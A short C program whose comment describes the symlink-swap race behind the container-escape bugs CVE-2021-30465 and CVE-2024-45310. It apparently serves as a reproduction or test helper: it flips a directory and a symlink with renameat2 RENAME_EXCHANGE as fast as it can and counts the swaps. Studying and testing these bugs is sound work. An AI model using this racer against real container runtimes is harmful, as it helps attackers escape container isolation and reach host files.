/*
 * The CVE-2021-30465 / CVE-2024-45310 attack: a container flips a directory of a volume it
 * shares with another container between a directory and a symlink pointing at a host path,
 * hoping the runtime setting up the other container resolves a mount destination while it
 * is a directory and mounts (or makes directories) after it became the symlink.
 *
 * usage: swapper DIR SECONDS
 * In DIR, "x" is a directory and "y" a symlink; they trade places (renameat2
 * RENAME_EXCHANGE) as fast as possible until SECONDS have passed. Prints the swap count.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: %s DIR SECONDS\n", argv[0]);
		return 2;
	}
	if (chdir(argv[1]))
		return 2;
	struct timespec start, t;
	clock_gettime(CLOCK_MONOTONIC, &start);
	double secs = atof(argv[2]);
	unsigned long swaps = 0;
	for (;;) {
		for (int i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, "x", AT_FDCWD, "y", RENAME_EXCHANGE) == 0)
				swaps++;
		clock_gettime(CLOCK_MONOTONIC, &t);
		if (t.tv_sec - start.tv_sec + (t.tv_nsec - start.tv_nsec) / 1e9 > secs)
			break;
	}
	printf("%lu\n", swaps);
	return 0;
}
